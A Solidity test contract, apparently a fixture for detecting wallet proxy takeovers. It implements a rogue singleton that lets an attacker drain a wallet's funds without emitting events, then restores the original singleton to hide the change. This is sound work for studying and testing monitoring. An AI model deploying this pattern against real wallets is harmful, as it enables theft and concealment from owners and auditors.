// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title TransientSingleton
/// @notice TEST ONLY: the rogue singleton of a takeover that is undone before anyone looks.
///         Installed in a wallet proxy's slot 0 (by SlotWriter through a DELEGATECALL the
///         owners signed), it lets its attacker move value out with no event of its own, then
///         write the original singleton back: at the next pinned block the wallet reads as it
///         always did. Only the executions in between show what happened.
contract TransientSingleton {
    error NotAttacker(address caller);
    error SendFailed(address target);

    address internal singleton; // slot 0, as in the wallet it replaces

    address public immutable attacker;

    constructor(address attacker_) {
        attacker = attacker_;
    }

    modifier onlyAttacker() {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        _;
    }

    receive() external payable {}

    /// Native value out by an internal call: no log.
    function drain(address payable to, uint256 amount) external onlyAttacker {
        (bool ok,) = to.call{value: amount}("");
        if (!ok) revert SendFailed(to);
    }

    /// The original singleton back in slot 0: the wallet is itself again.
    function restore(address original) external onlyAttacker {
        singleton = original;
    }
}
